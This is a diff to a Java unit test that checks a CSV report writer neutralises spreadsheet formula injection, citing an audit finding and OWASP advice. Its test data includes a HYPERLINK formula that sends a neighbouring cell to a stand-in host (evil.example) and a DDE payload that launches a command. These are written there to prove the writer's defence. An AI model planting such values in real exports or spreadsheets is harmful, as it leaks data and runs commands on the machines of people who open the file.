@@ -47,15 +47,16 @@ class TheCsvSaysWhatTheJsonSays {
     }
 
     /**
-     * Audit 6: an incident id a call handler typed as {@code =HYPERLINK("http://…"&A1,"click")} reached the QA
-     * reviewer's spreadsheet as a live formula, sending the cell beside it to whoever wrote the link. OWASP's advice: a
-     * text that starts as a formula (=, +, -, @, tab, CR) is written as text, a {@code '} before it, and quoted; a
-     * number stays a number; a reader of the CSV drops the {@code '} and has the id back whole.
+     * Audit 6: an incident id a call handler typed as {@code =HYPERLINK("http://…"&A1,"click")} was written as it was:
+     * a live formula in whichever spreadsheet opened the download, sending the cell beside it to whoever wrote the
+     * link. OWASP's advice: a text that starts as a formula (=, +, -, @, tab, CR) is written as text, a {@code '}
+     * before it, and quoted; a number, or a leader alone, stays as it is; a reader of the CSV drops the {@code '} and
+     * has the id back whole.
      */
     @Test
     void anIdThatASpreadsheetWouldRunAsAFormulaIsWrittenAsTextAndReadBackWhole() {
         List<String> ids = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
-                "-2+3", "@SUM(A1)", "\t=1", "'=2", "-7");
+                "-2+3", "@SUM(A1)", "\t=1", "'=2", "-7", "-", "'-");
         StringBuilder steps = new StringBuilder();
         for (String id : ids) {
             String json = JsonNodeFactory.instance.stringNode(id).toString();
@@ -80,6 +81,7 @@ class TheCsvSaysWhatTheJsonSays {
         List<String> back = CsvTables.parse(text).get("delayedAttendance").rows().stream().map(r -> r.get(0)).toList();
         assertThat(back).containsExactlyInAnyOrderElementsOf(ids);
         assertThat(ReportCsv.field("-12.5")).isEqualTo("-12.5");
+        assertThat(ReportCsv.field("-")).isEqualTo("-");
         assertThat(ReportCsv.field("CAD-1")).isEqualTo("CAD-1");
     }
 
